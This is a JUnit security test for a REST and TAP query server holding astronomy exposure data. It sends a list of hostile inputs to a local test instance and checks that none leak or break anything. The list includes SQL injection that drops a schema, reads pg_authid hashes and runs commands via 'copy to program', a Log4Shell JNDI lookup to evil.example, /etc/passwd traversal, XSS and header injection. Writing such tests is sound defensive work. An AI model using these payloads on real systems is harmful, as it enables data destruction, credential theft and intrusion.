package org.platebook.rest;

import static org.assertj.core.api.Assertions.assertThat;

import static java.nio.charset.StandardCharsets.UTF_8;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;
import java.net.SocketException;
import java.net.URLEncoder;
import java.util.List;
import java.util.regex.Pattern;

/** Requests that want in, or want something to break. */
class AttackTest {

    private static final List<String> EVIL =
            List.of(
                    "' or '1'='1",
                    "1; drop schema cdb_lsstcam cascade; --",
                    "1 union select rolpassword from pg_authid",
                    "\\'; select pg_sleep(10); --",
                    "$$); copy t to program 'id'; --",
                    "\u0000",
                    "a\u0000b",
                    "%' escape 'x",
                    "../../../../etc/passwd",
                    "${jndi:ldap://evil.example/a}",
                    "<script>alert(1)</script>",
                    "\r\nSet-Cookie: a=b",
                    "\ud83d\ude00".repeat(200),
                    "9".repeat(400),
                    "-9223372036854775808",
                    "1e309",
                    "NaN");

    private static final Pattern PART = Pattern.compile("\\{(\\w+)\\}");

    private static SampleSite site;

    @BeforeAll
    static void start() {
        site = new SampleSite();
    }

    @AfterAll
    static void stop() {
        site.close();
    }

    @Test
    void no_parameter_and_no_part_of_a_path_reaches_the_database_as_sql() throws Exception {
        for (var route : site.api().answered()) {
            var plain =
                    route.path()
                            .replace("{instrument}", "LSSTCam")
                            .replace("{day_obs}", "20260115")
                            .replace("{exposure_id}", "1")
                            .replace("{visit_id}", "1");
            for (var evil : EVIL) {
                var coded = URLEncoder.encode(evil, UTF_8).replace("+", "%20");
                for (var parameter : route.parameters()) {
                    assertHarmless("/api" + plain + "?" + parameter + "=" + coded);
                }
                assertHarmless("/api" + plain + "?" + coded + "=1");
                for (var part : PART.matcher(route.path()).results().toList()) {
                    var path = route.path().replace(part.group(), coded);
                    assertHarmless(
                            "/api"
                                    + path.replace("{instrument}", "LSSTCam")
                                            .replace("{day_obs}", "20260115"));
                }
            }
        }
    }

    @Test
    void no_parameter_of_a_query_breaks_anything() throws Exception {
        for (var name : List.of("QUERY", "LANG", "FORMAT", "MAXREC", "RUNID", "AS_OF", "UPLOAD")) {
            for (var evil : EVIL) {
                var coded = URLEncoder.encode(evil, UTF_8);
                assertHarmless("/tap/sync?LANG=ADQL&" + name + "=" + coded);
                assertHarmless(
                        "/tap/sync?LANG=ADQL&QUERY=SELECT+1+FROM+cdb_lsstcam.exposure&"
                                + name
                                + "="
                                + coded);
            }
        }
        assertHarmless("/tap/sync?LANG=ADQL&QUERY=" + "(".repeat(5000));
        assertHarmless("/tap/sync?LANG=ADQL&QUERY=SELECT+" + "-".repeat(2) + "1");
        assertHarmless("/tap/tables/" + URLEncoder.encode("pg_catalog.pg_authid", UTF_8));
    }

    @Test
    void odd_paths_and_headers_are_refused_or_lead_nowhere() throws Exception {
        for (var path :
                List.of(
                        "/%2e%2e/%2e%2e/etc/passwd",
                        "/..%2f..%2fetc/passwd",
                        "/....//....//etc/passwd",
                        "/assets/..;/..;/site.yaml",
                        "/assets/%00.js",
                        "/api/%00",
                        "/api//instruments/..",
                        "/%ff%fe",
                        "/%",
                        "/%zz",
                        "/org/platebook/app/Main.class",
                        "/logback.xml",
                        "//evil.example/%2f..",
                        "http://evil.example/api/instruments")) {
            assertHarmless(path);
        }
        assertThat(answer("/api/instruments", "X-Request-Id: a\u0001b")).startsWith("HTTP/1.1");
        assertThat(answer("/api/instruments", "X-Request-Id: " + "x".repeat(5000)))
                .doesNotContain("xxxxx");
        assertThat(answer("/api/instruments", "A: " + "x".repeat(100_000)))
                .startsWith("HTTP/1.1 4");
        assertThat(answer("/api/instruments", " folded: header")).startsWith("HTTP/1.1 4");
        assertThat(answer("/api/instruments", "Content-Length: -1")).startsWith("HTTP/1.1 4");
        assertThat(answer("/" + "a".repeat(100_000), "A: b")).startsWith("HTTP/1.1 4");
        assertThat(answer("/tap/capabilities", "X-Forwarded-Host: evil.example"))
                .doesNotContain("evil.example");
    }

    private static void assertHarmless(String path) throws IOException {
        var answer = answer(path, "Accept: */*");
        assertThat(answer)
                .as(path)
                .matches(Pattern.compile("HTTP/1\\.1 (200|3..|4..) .*", Pattern.DOTALL))
                .doesNotContain("root:")
                .doesNotContain("ERROR:")
                .doesNotContain("PSQLException")
                .doesNotContain("\tat ")
                .doesNotContain("java.lang.");
        assertThat(answer.lines().takeWhile(line -> !line.isEmpty()))
                .as(path)
                .noneMatch(line -> line.startsWith("Set-Cookie"));
    }

    /** The whole answer to a request whose first line and header are written as they are here. */
    private static String answer(String path, String header) throws IOException {
        try (var socket = new Socket(InetAddress.getLoopbackAddress(), site.address().getPort())) {
            socket.setSoTimeout(20_000);
            var request =
                    "GET "
                            + path
                            + " HTTP/1.1\r\nHost: localhost\r\n"
                            + header
                            + "\r\nConnection: close\r\n\r\n";
            try {
                socket.getOutputStream().write(request.getBytes(UTF_8));
                socket.shutdownOutput();
                return new String(socket.getInputStream().readAllBytes(), UTF_8);
            } catch (SocketException e) {
                return "HTTP/1.1 400 closed while it was still being sent";
            }
        }
    }
}
